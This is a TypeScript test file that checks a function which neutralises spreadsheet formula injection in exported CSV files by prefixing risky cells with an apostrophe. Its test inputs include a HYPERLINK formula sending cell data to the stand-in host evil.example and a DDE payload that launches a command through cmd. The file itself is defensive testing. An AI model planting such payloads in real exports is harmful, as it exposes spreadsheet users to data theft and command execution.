import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetSafe, spreadsheetSafeCast } from '../../functions/core/export/spreadsheet-safe';

describe('spreadsheetSafe', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2,"Open")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-'],
    ['+'],
    ['-Infinity'],
    ['=1'],
  ])('puts an apostrophe before text that a spreadsheet would run as a formula: %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });

  it.each([['-3'], ['-0.5'], ['+2'], ['3'], ['0.25'], ['-.5'], ['1e-3'], ['-2E+4']])('leaves a number written as text a number: %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });

  it.each([['mbpm'], ['Week 8 = follow-up'], ['2026-03-02T09:00:00.000Z'], [''], ["'=already quoted"], ['a=b']])('leaves other text alone: %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });
});

describe('the csv-stringify cast every CSV writer uses', () => {
  it('neutralises text cells and header names, and writes numbers (negative too) as plain numbers', () => {
    const csv = stringify([{ label: '=cmd|" /C calc"!A0', value: -3, change: -0.5, note: '-2+3' }], {
      header: true,
      columns: ['label', 'value', 'change', 'note', { key: 'extra', header: '@header' }],
      cast: spreadsheetSafeCast,
    });
    expect(csv).toBe(`label,value,change,note,'@header\n"'=cmd|"" /C calc""!A0",-3,-0.5,'-2+3,\n`);
  });
});
